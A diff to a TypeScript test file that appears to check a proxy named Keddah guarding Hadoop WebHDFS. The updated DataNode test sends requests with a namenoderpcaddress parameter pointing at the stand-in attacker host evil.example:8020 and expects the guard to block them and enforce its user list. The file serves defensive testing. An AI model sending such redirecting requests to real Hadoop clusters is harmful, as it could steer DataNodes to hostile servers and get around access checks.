@@ -28,7 +28,7 @@ beforeAll(async () => {
     settings: {
       services: [
         service('namenode', sandbox.nameNode),
-        service('datanode', sandbox.dataNode),
+        { ...service('datanode', sandbox.dataNode), nameNodes: ['127.0.0.1:8020'] },
         service('resourcemanager', sandbox.resourceManager),
       ],
     },
@@ -185,12 +185,19 @@ describe('the NameNode', () => {
 
 describe('the DataNode', () => {
   // Attack: it connects to whatever address it is told, and believes every name.
-  test('connects to any NameNode it is told; nobody gets there who is not on the list', async () => {
-    const target = (user: string): string =>
-      `/webhdfs/v1/x?op=OPEN&namenoderpcaddress=evil.example:8020&user.name=${user}`
-    expect((await bare('datanode', target('mallory'))).status).not.toBe(401)
-    const answer = await guarded('datanode', target('mallory'))
-    expect([answer.status, answer.headers.get('x-keddah-reason')]).toEqual([403, 'acl'])
+  test('connects to any NameNode it is told; Keddah knows which ones there are, and who is on the list', async () => {
+    const target = (user: string, nameNode: string): string =>
+      `/webhdfs/v1/x?op=OPEN&namenoderpcaddress=${nameNode}&user.name=${user}`
+    expect((await bare('datanode', target('mallory', 'evil.example:8020'))).status).not.toBe(401)
+    const before = sandbox.requests().length
+    for (const user of ['mallory', 'alice']) {
+      const answer = await guarded('datanode', target(user, 'evil.example:8020'))
+      expect([answer.status, answer.headers.get('x-keddah-reason')]).toEqual([403, 'name_node'])
+    }
+    const mallory = await guarded('datanode', target('mallory', '127.0.0.1:8020'))
+    expect([mallory.status, mallory.headers.get('x-keddah-reason')]).toEqual([403, 'acl'])
+    expect(sandbox.requests()).toHaveLength(before)
+    expect((await guarded('datanode', target('alice', '127.0.0.1:8020'))).status).toBe(404)
   })
 
   // Attack: the NameNode is made to hand on the address of a DataNode's NameNode.
